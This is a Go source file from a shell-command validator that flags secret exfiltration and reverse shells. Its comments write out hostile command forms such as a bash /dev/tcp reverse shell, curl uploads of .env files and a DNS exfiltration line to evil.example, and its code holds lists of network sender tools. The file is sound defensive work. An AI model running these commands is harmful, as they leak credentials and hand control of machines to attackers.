package validator

import (
	"path"
	"slices"
	"strings"

	"github.com/permgate/permgate/effect"
	"github.com/permgate/permgate/internal/lazyre"
	"github.com/permgate/permgate/lang/git"
	"github.com/permgate/permgate/places"
	"github.com/permgate/permgate/registry"
	"github.com/permgate/permgate/shellparse"
)

// Exfiltration: a secret sent off the machine (SPEC §2). The secret is a file
// secret_access names (by any spelling), or the environment (env, printenv),
// and it leaves through an upload option (curl -d @FILE, -F f=@FILE, -T FILE,
// wget --post-file), a copy to a remote (scp, rsync, sftp), or standard input
// fed to a program that sends it (curl @-, nc, socat, ssh, mail …) by a pipe,
// a redirect or a here-string. Reverse shells (bash -i >& /dev/tcp/…) run code
// from the network and are pipe_to_shell.

// emitsSecret reports that the command's output may hold a secret: it reads
// one (secret_access among its findings), prints the environment, or passes on
// what a pipe fed it from such a command (base64, gzip, tar …).
func (ck *checker) emitsSecret(c shellparse.SimpleCommand) bool {
	if ck.readsSecret() {
		return true
	}
	if len(c.Argv) == 0 {
		return false
	}
	if printsEnvironment(c) {
		return true
	}
	for _, a := range c.Argv[1:] {
		if a.Static && strings.HasSuffix(a.Text, "/environ") && strings.HasPrefix(a.Text, "/proc/") {
			return true
		}
	}
	return ck.stdinSecret(c)
}

// printsEnvironment reports a command that prints the environment's
// values: env and printenv with no command, set alone, export, declare and
// typeset with no operand, compgen -v and -e.
func printsEnvironment(c shellparse.SimpleCommand) bool {
	switch path.Base(c.Name) {
	case "env", "printenv":
		return printingEnv(c.Argv[1:])
	case "set":
		return len(c.Argv) == 1 // set -e, set -o pipefail print nothing
	case "export", "declare", "typeset":
		return len(operandsOf(c)) == 0
	case "compgen":
		return len(operandsOf(c)) == 0 || hasOption(c, "-v", "-e")
	}
	return false
}

// stdinSecret reports standard input that may carry a secret: a pipe from a
// command that emits one, a redirect from a secret file, or a here-document
// that expands a secret variable.
func (ck *checker) stdinSecret(c shellparse.SimpleCommand) bool {
	return ck.pipedSecret(c) || ck.redirectedSecret(c) || hereSecret(c)
}

// pipedSecret reports a pipe into the command from one that emits a secret.
func (ck *checker) pipedSecret(c shellparse.SimpleCommand) bool {
	if c.Stdin.Kind != shellparse.InputPipe {
		return false
	}
	for _, i := range c.Stdin.From {
		if ck.secretOut[i] {
			return true
		}
	}
	return false
}

// redirectedSecret reports standard input redirected from a secret file, or
// from a substitution that carries one.
func (ck *checker) redirectedSecret(c shellparse.SimpleCommand) bool {
	for _, r := range c.Redirects {
		if r.Op != "<" && r.Op != "<>" || r.Fd != "" && r.Fd != "0" {
			continue
		}
		if ck.secretWord(r.Target, true) || (r.Target.ProcSubst || r.Target.Subst) && ck.substCarriesSecret(r.Target) {
			return true
		}
	}
	return false
}

// hereSecret reports a here-string or here-document that expands a variable
// that holds a secret.
func hereSecret(c shellparse.SimpleCommand) bool {
	if c.Stdin.Kind != shellparse.InputHereString && c.Stdin.Kind != shellparse.InputHereDoc {
		return false
	}
	for _, p := range envSecretParams(c.Stdin.Text) {
		if secretVar(p) {
			return true
		}
	}
	return false
}

// envSecretParams returns the parameter names a here-string's source text expands.
func envSecretParams(text string) []string {
	var out []string
	for i := 0; i < len(text); i++ {
		if text[i] != '$' {
			continue
		}
		j := i + 1
		if j < len(text) && text[j] == '{' {
			j++
		}
		k := j
		for k < len(text) && isNameByte(text[k], 1) {
			k++
		}
		if k > j {
			out = append(out, text[j:k])
		}
	}
	return out
}

// secretWord reports a word that names a secret file (or, with dirs, a folder
// of secrets), by any spelling: ~, $HOME, ${HOME:-…}, variables set earlier,
// globs (~/.ssh/*), and the path after =, @ or : (-d@.env, file=@~/.aws/credentials).
func (ck *checker) secretWord(w shellparse.Word, dirs bool) bool {
	if w.Subst && decodedName().MatchString(w.Text) {
		return true // a name only a decoder reveals is not proven free of secrets
	}
	if w.Static || w.Glob && len(w.Params) == 0 && !w.Subst {
		return ck.secretText(w.Text, w.Glob, dirs) // the word as it stands
	}
	texts, _ := ck.expandPath(w)
	for _, text := range texts {
		if ck.secretText(text, w.Glob, dirs) {
			return true
		}
	}
	return false
}

// secretText reports a text that names a secret by one of the paths it may
// spell (itself, or what follows =, @ or :).
func (ck *checker) secretText(text string, glob, dirs bool) bool {
	var candBuf [4]string
	for _, cand := range pathCandidates(candBuf[:0], text) {
		if ck.secretCandidate(cand, glob, dirs) {
			return true
		}
	}
	return false
}

// secretCandidate reports one path a word may name (after @ or <) that is a
// secret file, a copy of one the script made, or (with dirs) a folder of
// secrets.
func (ck *checker) secretCandidate(cand string, glob, dirs bool) bool {
	cand = strings.TrimPrefix(strings.TrimPrefix(cand, "@"), "<")
	if cand == "" || cand == "-" {
		return false
	}
	cand = ck.tildeHome(cand)
	g := glob || hasGlob(cand)
	if ck.secretPath(cand, g) || !g && ck.secretCopies != nil && ck.secretCopies[ck.resolve(cand)] {
		return true
	}
	return dirs && !g && places.SecretDirBase(path.Base(strings.TrimSuffix(cand, "/"))) && secretDir(ck.resolve(cand))
}

// tildeHome writes a leading ~ as the home directory.
func (ck *checker) tildeHome(p string) string {
	home := ck.v.env.Home
	if home == "" {
		return p
	}
	if rest, ok := strings.CutPrefix(p, "~/"); ok {
		return home + "/" + rest
	}
	if p == "~" {
		return home
	}
	return p
}

// exfilSenders send what they read on standard input over the network.
var exfilSenders = map[string]bool{"nc": true, "ncat": true, "netcat": true, "socat": true, "telnet": true, "openssl": true,
	"ssh": true, "mail": true, "mailx": true, "sendmail": true, "mutt": true, "http": true, "https": true, "xh": true, "xhs": true,
	"ftp": true, "tftp": true, "sftp": true}

// exfil judges one command for secrets sent off the machine.
func (ck *checker) exfil(c shellparse.SimpleCommand) {
	ck.reverseShell(c)
	if len(c.Argv) == 0 {
		return
	}
	base := path.Base(c.Name)
	stdin := ck.stdinSecret(c)
	if !ck.sendsOut(c, base, stdin) {
		ck.redirectExfil(c, stdin)
	}
}

// sendsOut judges what a program sends by its words and its input: a
// substitution that carries a secret, the files it sends or uploads, sftp's
// batch, and a sender's standard input. It reports a finding.
func (ck *checker) sendsOut(c shellparse.SimpleCommand, base string, stdin bool) bool {
	sender := exfilSenders[base] && (base != "openssl" || opensslConnects(c))
	if (sender || downloaders[base] || dnsTools[base]) && ck.substSent(c, base) {
		return true
	}
	if !sender && ck.sendsSecretFile(c, base, stdin) || ck.uploadsSecret(c, base, stdin) || ck.sftpBatchSecret(c, base) {
		return true
	}
	return sender && ck.senderSecret(c, base, stdin)
}

// redirectExfil: anything written to /dev/tcp or /dev/udp leaves the machine.
func (ck *checker) redirectExfil(c shellparse.SimpleCommand, stdin bool) {
	for _, r := range c.Redirects {
		if r.Writes() && netDevice(r.Target.Text) && (stdin || ck.readsSecret()) {
			ck.add("exfiltration", "redirect_secret", Severe, "sends a secret to "+r.Target.Text)
			return
		}
	}
}

// substSent judges curl -d "$(cat .env)" URL and dig "$(base64 < .env).evil.example":
// a substitution that carries a secret into what the program sends.
func (ck *checker) substSent(c shellparse.SimpleCommand, base string) bool {
	for _, a := range c.Argv[1:] {
		if (a.Subst || a.ProcSubst) && ck.substCarriesSecret(a) {
			ck.add("exfiltration", "send_secret", Severe, base+" sends "+clip(a.Text)+", which carries a secret, off the machine")
			return true
		}
	}
	return false
}

// sendsSecretFile judges the files a command's declaration says it sends
// (curl -T FILE, -d @FILE, -F f=@FILE; wget --post-file; gh gist create
// FILES; mail -a FILE; http URL field@FILE) and standard input sent when it
// holds a secret (curl -d @-).
func (ck *checker) sendsSecretFile(c shellparse.SimpleCommand, base string, stdin bool) bool {
	if !fileSenders[base] {
		return false // the cloud CLIs' uploads are judged in cloud.go
	}
	for _, t := range commandEffects(c) {
		if t.act != registry.Sends {
			continue
		}
		w, ok := sentFile(base, t)
		switch {
		case !ok:
		case stdinName(base, w.Text):
			if stdin && ck.sentStdin(base) {
				return true
			}
		case ck.secretWord(w, false):
			ck.sentSecret(base, t.word.Text)
			return true
		}
	}
	return false
}

// fileSenders are the programs whose sent files sendsSecretFile judges.
var fileSenders = map[string]bool{"curl": true, "wget": true, "wget2": true, "gh": true, "mail": true, "mailx": true, "mutt": true,
	"http": true, "https": true, "xh": true}

// sentFile returns the file a sent word names: curl's data names one after
// @ or < (@FILE, NAME@FILE, NAME=@FILE, NAME=<FILE;type=…), an HTTPie item
// one after @; the other programs send the file the word names.
func sentFile(base string, t effectTarget) (shellparse.Word, bool) {
	w := t.word
	switch base {
	case "curl":
		if !slices.Contains(registry.CurlUploads, t.opt) {
			at := strings.IndexAny(w.Text, "@<")
			if at < 0 {
				return w, false
			}
			w.Text = w.Text[at+1:]
		}
		w.Text, _, _ = strings.Cut(w.Text, ";") // -F f=@file;type=text/plain
	case "http", "https", "xh", "xhs":
		return w, strings.Contains(w.Text, "@")
	case "wget", "wget2":
		return w, t.opt == "--post-file" || t.opt == "--body-file" // --post-data is the data itself
	}
	return w, true
}

// stdinName reports a file name that is standard input: -, /dev/stdin, and
// for curl also ".".
func stdinName(base, t string) bool {
	return t == "-" || shellparse.IsStdinPath(t) || base == "curl" && t == "."
}

// sentStdin adds the finding for a program that sends its standard input,
// which holds a secret, and reports whether it did.
func (ck *checker) sentStdin(base string) bool {
	switch base {
	case "curl":
		ck.add("exfiltration", "curl_stdin_secret", Severe, "curl sends its standard input, which holds secrets, to a server")
	case "wget", "wget2":
		ck.add("exfiltration", "wget_post_secret", Severe, "wget sends its standard input, which holds secrets, to a server")
	case "gh":
		ck.add("exfiltration", "gist_secret", Severe, "gh gist create uploads its standard input, which holds secrets")
	default:
		return false
	}
	return true
}

// sentSecret adds the finding for a program that sends a secret file.
func (ck *checker) sentSecret(base, what string) {
	switch base {
	case "curl":
		ck.add("exfiltration", "curl_secret", Severe, "curl sends "+what+", which holds secrets, to a server")
	case "wget", "wget2":
		ck.add("exfiltration", "wget_post_secret", Severe, "wget sends "+what+", which holds secrets, to a server")
	case "gh":
		ck.add("exfiltration", "gist_secret", Severe, "gh gist create uploads "+what+", which holds secrets")
	case "mail", "mailx", "mutt":
		ck.add("exfiltration", "mail_secret", Severe, base+" mails "+what+", which holds secrets")
	default:
		ck.add("exfiltration", "send_file_secret", Severe, base+" sends "+what+", which holds secrets")
	}
}

// uploadsSecret judges copies to a remote: scp, rsync, sftp and rclone, and
// aws s3 and gsutil copying a secret (or standard input holding one) to a
// bucket.
func (ck *checker) uploadsSecret(c shellparse.SimpleCommand, base string, stdin bool) bool {
	switch base {
	case "scp", "rsync", "sftp", "rclone":
		return ck.copyExfil(c, base)
	case "aws", "gsutil":
		r, ok := readingOf(c)
		ops := r.operands()
		if !ok || len(ops) < 2 || base == "aws" && (len(r.path()) == 0 || r.path()[0] != "s3") {
			return false
		}
		src, dst := ops[len(ops)-2], ops[len(ops)-1]
		if strings.Contains(dst.Text, "://") && (ck.secretWord(src, true) || stdin && src.Text == "-") {
			ck.add("exfiltration", "upload_secret", Severe, base+" uploads "+src.Text+", which holds secrets")
			return true
		}
	}
	return false
}

// sftpBatchSecret judges sftp's batch commands on its input: put FILE sends it.
func (ck *checker) sftpBatchSecret(c shellparse.SimpleCommand, base string) bool {
	if base != "sftp" || c.Stdin.Kind != shellparse.InputHereString && c.Stdin.Kind != shellparse.InputHereDoc {
		return false
	}
	for _, line := range strings.Split(c.Stdin.Text, "\n") {
		f := strings.Fields(line)
		if len(f) < 2 || f[0] != "put" && f[0] != "mput" && f[0] != "reput" {
			continue
		}
		for _, name := range f[1:] {
			if !strings.HasPrefix(name, "-") && ck.secretWord(shellparse.Word{Text: name, Static: true}, true) {
				ck.add("exfiltration", "sftp_secret", Severe, "sftp puts "+name+", which holds secrets, on a remote host")
				return true
			}
		}
	}
	return false
}

// senderSecret judges a program that sends what it reads: standard input
// that holds a secret, a secret file among socat's addresses, and the files
// its declaration says it sends (mail -a, http field@FILE).
func (ck *checker) senderSecret(c shellparse.SimpleCommand, base string, stdin bool) bool {
	if stdin {
		ck.add("exfiltration", "send_stdin_secret", Severe, base+" sends what it reads, which holds secrets, off the machine")
		return true
	}
	if base == "socat" {
		for _, a := range operandsOf(c) {
			if file, ok := socatFile(a); ok && ck.secretWord(file, false) {
				ck.add("exfiltration", "socat_secret", Severe, "socat sends "+a.Text+", which holds secrets, over a connection")
				return true
			}
		}
	}
	return ck.sendsSecretFile(c, base, false)
}

// socatFile returns the file a socat address opens (OPEN:, FILE:, GOPEN:,
// CREATE:).
func socatFile(a shellparse.Word) (shellparse.Word, bool) {
	addr := strings.ToLower(a.Text)
	for _, kind := range []string{"open:", "file:", "gopen:", "create:"} {
		if strings.HasPrefix(addr, kind) {
			return shellparse.Word{Text: a.Text[len(kind):], Static: a.Static}, true
		}
	}
	return a, false
}

// readsSecret reports a secret_access finding on the current command.
func (ck *checker) readsSecret() bool {
	for _, f := range ck.out {
		if f.Kind == "secret_access" {
			return true
		}
	}
	return false
}

// copyExfil: scp, rsync, sftp and rclone copying a secret to a remote. rclone
// copies only with a copying verb (copy, sync, move …).
func (ck *checker) copyExfil(c shellparse.SimpleCommand, name string) bool {
	files := operandsOf(c)
	if name == "rclone" {
		if r, ok := readingOf(c); !ok || len(r.path()) == 0 {
			return false
		}
	}
	if len(files) < 2 {
		return false
	}
	dst := files[len(files)-1]
	if !remotePath(dst.Text) && !strings.Contains(dst.Text, "://") {
		return false
	}
	for _, src := range files[:len(files)-1] {
		if remotePath(src.Text) {
			continue
		}
		if ck.secretWord(src, true) {
			ck.add("exfiltration", "copy_secret", Severe, name+" copies "+src.Text+", which holds secrets, to "+dst.Text)
			return true
		}
	}
	return false
}

// netDevice reports bash's network pseudo-files /dev/tcp/HOST/PORT and /dev/udp/….
func netDevice(p string) bool {
	return strings.HasPrefix(p, "/dev/tcp/") || strings.HasPrefix(p, "/dev/udp/")
}

// reverseShell: a shell or interpreter whose input or output is a network
// connection (bash -i >& /dev/tcp/HOST/PORT 0>&1, sh <&196 after exec
// 196<>/dev/tcp/…) runs commands that come from the network; nc -e, ncat --exec
// and socat EXEC: serve a shell to the network.
func (ck *checker) reverseShell(c shellparse.SimpleCommand) {
	ck.noteSockets(c)
	if len(c.Argv) == 0 {
		return
	}
	base := path.Base(c.Name)
	if (shellparse.IsShell(c.Name) || isInterpreter(base)) && ck.readsNetwork(c) {
		return
	}
	switch base {
	case "nc", "ncat", "netcat", "nc.traditional", "nc.openbsd":
		for _, t := range commandEffects(c) {
			if t.act == registry.Executes {
				ck.add("pipe_to_shell", "network_shell", Severe, base+" connects "+clip(t.word.Text)+" to the network: whoever is at the other end runs commands here")
				return
			}
		}
	case "socat":
		if socatServesShell(operandsOf(c)) {
			ck.add("pipe_to_shell", "socat_shell", Severe, "socat connects a program to the network: whoever is at the other end runs commands here")
		}
	}
}

// readsNetwork judges a shell or interpreter whose input or output is a
// network connection, and reports one.
func (ck *checker) readsNetwork(c shellparse.SimpleCommand) bool {
	for _, r := range c.Redirects {
		if netDevice(r.Target.Text) || (r.Op == "<&" || r.Op == ">&" || r.Op == "<>") && ck.sockets[r.Target.Text] {
			ck.add("pipe_to_shell", "reverse_shell", Severe, c.Name+" reads its commands from a network connection ("+r.Target.Text+"): a reverse shell")
			return true
		}
	}
	return false
}

// noteSockets remembers the file descriptors a bare redirect (exec
// 196<>/dev/tcp/HOST/PORT) opens on a network connection.
func (ck *checker) noteSockets(c shellparse.SimpleCommand) {
	if len(c.Argv) > 1 || len(c.Argv) == 1 && c.Name != "exec" {
		return
	}
	for _, r := range c.Redirects {
		if !netDevice(r.Target.Text) {
			continue
		}
		if ck.sockets == nil {
			ck.sockets = map[string]bool{}
		}
		fd := r.Fd
		if fd == "" {
			fd = "0"
			if r.Op != "<" {
				fd = "1"
			}
		}
		ck.sockets[fd] = true
	}
}

// socatServesShell reports socat addresses that join a program (EXEC:,
// SYSTEM:) to a network connection.
func socatServesShell(addrs []shellparse.Word) bool {
	exec, net := false, false
	for _, a := range addrs {
		addr := strings.ToLower(a.Text)
		if strings.HasPrefix(addr, "exec:") || strings.HasPrefix(addr, "system:") {
			exec = true
		}
		for _, kind := range []string{"tcp", "udp", "ssl", "openssl", "sctp", "unix"} {
			if strings.HasPrefix(addr, kind) {
				net = true
			}
		}
	}
	return exec && net
}

// grepLike take a pattern as their first operand (unless -e or -f gives it),
// and -e's values are patterns: a pattern that mentions .env is not access.
var grepLike = map[string]bool{"grep": true, "egrep": true, "fgrep": true, "zgrep": true, "rg": true, "ag": true, "ack": true}

// gitNameOnly are git subcommands whose path operands are names, not contents.
var gitNameOnly = map[string]bool{"check-ignore": true, "ls-files": true, "rm": true, "mv": true, "status": true, "check-attr": true,
	"update-index": true, "ls-tree": true, "restore": true, "checkout": true, "clean": true, "stash": true, "add": false}

// nameOnlyArgs returns, by index in Argv[1:], the arguments a command takes as
// names or patterns rather than files it reads; all when every argument is one
// (the command never reads a file's content).
func nameOnlyArgs(c shellparse.SimpleCommand) (names map[int]bool, all bool) {
	switch base := path.Base(c.Name); base {
	case "git":
		return gitNameOnlyArgs(c)
	case "find":
		return nil, !findActs(c.Argv[1:]) // find lists names: -name '.env*' is a pattern
	case "eval":
		return nil, true // its words are code, judged as a script
	case "ssh-keygen":
		// ssh-keygen -t … -f KEY creates the key; -y, -e, -p and -c read it.
		return nil, len(valuesOf(c, "-f")) > 0 && !hasOption(c, "-y", "-e", "-p", "-c")
	case "echo", "printf", "fd", "fdfind", "locate", "plocate", "mlocate", "which", "whereis", "type", "command", "hash", "export", "unset", "alias":
		return nil, true
	default:
		if r, ok := readingOf(c); ok && grepLike[base] {
			return grepPatterns(r, 0), false
		}
	}
	return nil, false
}

// findActs reports a find expression that reads, writes or runs something
// with what it finds (-exec, -fprint, -delete …), not only lists names.
func findActs(args []shellparse.Word) bool {
	for _, p := range shellparse.FindPrimaries(args) {
		switch p.Name {
		case "-exec", "-execdir", "-ok", "-okdir", "-fprint", "-fprint0", "-fprintf", "-fls", "-delete":
			return true
		}
	}
	return false
}

// gitNameOnlyArgs: git's verbs that take names (ls-files, rm, status …) or
// history (log without a patch), and git grep's patterns, by the verbs'
// declared grammars.
func gitNameOnlyArgs(c shellparse.SimpleCommand) (map[int]bool, bool) {
	args := c.Argv[1:]
	g := git.Parse(args)
	if gitNameOnly[g.Sub] {
		return nil, true
	}
	if (g.Sub == "log" || g.Sub == "shortlog" || g.Sub == "whatchanged") && !g.Has("-p", "-u", "--patch", "-L", "--full-diff", "--word-diff") {
		return nil, true // history of the names, not their contents
	}
	if g.Sub == "grep" {
		r := reading{inv: &registry.Invocation{Scan: *g.Scan()}, args: g.Args}
		return grepPatterns(r, len(args)-len(g.Args)), false
	}
	return nil, false
}

// grepPatterns marks a grep's pattern words, by index in the words read
// plus offset: -e's values and, with no -e or -f, its first operand.
func grepPatterns(r reading, offset int) map[int]bool {
	out := map[int]bool{}
	given := false
	for _, o := range r.inv.Scan.Values("-e", "--regexp", "-f", "--file") {
		given = true
		if o.HasValue && (o.Name == "-e" || o.Name == "--regexp") {
			out[offset+o.ValueAt] = true
		}
	}
	if ops := r.inv.Scan.Operands; !given && len(ops) > 0 {
		out[offset+ops[0]] = true
	}
	return out
}

// decodedName finds a substitution that decodes or rebuilds text: the name it
// gives is hidden from the reader ($(echo fi5zc2gv… | base64 -d)).
var decodedName = lazyre.New(`\$\(.*(base64\s+(-d|-D|--decode)|base32\s+(-d|--decode)|basenc\s+.*-d|xxd\s+.*-r|(\||\$\()\s*(rev|tr)\s|(\||\$\()\s*rev\s*\)|openssl\s+(enc|base64)|gunzip|zcat|printf\s+['"]?(\\x|\\[0-7]))`)

// noteSecretCopies remembers where a command that reads a secret puts it: a
// copy's destination, a redirect's file.
func (ck *checker) noteSecretCopies(c shellparse.SimpleCommand) {
	var targets []shellparse.Word
	for _, r := range c.Redirects {
		if r.Writes() {
			targets = append(targets, r.Target)
		}
	}
	if len(c.Argv) > 0 {
		switch path.Base(c.Name) {
		case "cp", "mv", "install", "ln", "rsync", "tee", "dd", "base64", "gzip", "tar", "zip", "openssl":
			targets = append(targets, writeTargets(c)...)
		}
	}
	for _, t := range targets {
		texts, _ := ck.expandPath(t)
		for _, text := range texts {
			if ck.secretCopies == nil {
				ck.secretCopies = map[string]bool{}
			}
			ck.secretCopies[ck.resolve(text)] = true
		}
	}
}

// inlineLiteral finds the string literals in inline code.
var inlineLiteral = lazyre.New(`"([^"\\]{1,300})"|'([^'\\]{1,300})'`)

// inlineSecrets: inline code that names a secret file in a string literal
// reads it (python3 -c "print(open('.env').read())").
func (ck *checker) inlineSecrets(name, code string) {
	for _, m := range inlineLiteral().FindAllStringSubmatch(code, 16) {
		lit := m[1] + m[2]
		if lit == "" || strings.ContainsAny(lit, " \t\n") {
			continue
		}
		if ck.secretWord(shellparse.Word{Text: lit, Static: true}, false) {
			ck.add("secret_access", "code_reads_secret", NonSevere, name+" code reads "+lit+", which holds secrets")
			return
		}
	}
}

// opensslConnects reports an openssl command that talks to a server
// (s_client, s_time, or a verb known only at run time); openssl x509, enc,
// dgst … only read and print.
func opensslConnects(c shellparse.SimpleCommand) bool {
	inv, ok := scanned(c)
	return ok && (inv.DynamicVerb || slices.Contains(inv.Node.Does, effect.NetworkOutbound))
}

// dnsTools send the names they are given to name servers and hosts.
var dnsTools = map[string]bool{"dig": true, "nslookup": true, "host": true, "ping": true, "ping6": true, "traceroute": true, "drill": true, "kdig": true}

// substCarriesSecret reports a word whose command substitution runs a command
// that reads a secret or prints the environment.
func (ck *checker) substCarriesSecret(w shellparse.Word) bool {
	for j := 0; j < ck.index && j < len(ck.res.Commands); j++ {
		inner := ck.res.Commands[j]
		if inner.Subst != "" && ck.secretOut[j] && inner.Source != "" && strings.Contains(w.Text, inner.Source) {
			return true
		}
	}
	return false
}
